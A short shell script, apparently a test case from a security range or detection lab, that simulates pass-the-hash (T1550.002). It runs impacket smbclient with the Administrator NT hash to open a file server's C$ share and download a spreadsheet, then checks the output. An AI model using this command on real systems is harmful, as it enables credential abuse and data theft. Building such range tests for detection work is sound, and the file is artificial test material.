# SPDX-License-Identifier: Apache-2.0
# what: pass-the-hash: files read with an NT hash
# technique: T1550.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: success
# must: finding share
# must-sealed: unseen
# smb: both
. "$RANGE_HERE/item.sh"
documents "$RANGE/hosts/fs1/srv/c/Users" 6 4000
printf 'use C$\ncd Users\nls\nget file001.xlsx\nexit\n' >"$HOME/do"
cd "$HOME"
says '^\[|-rw.*file00|file001.xlsx$' impacket smbclient -hashes ":$(nthash Administrator)" -file "$HOME/do" "CORP/Administrator@$fs1"
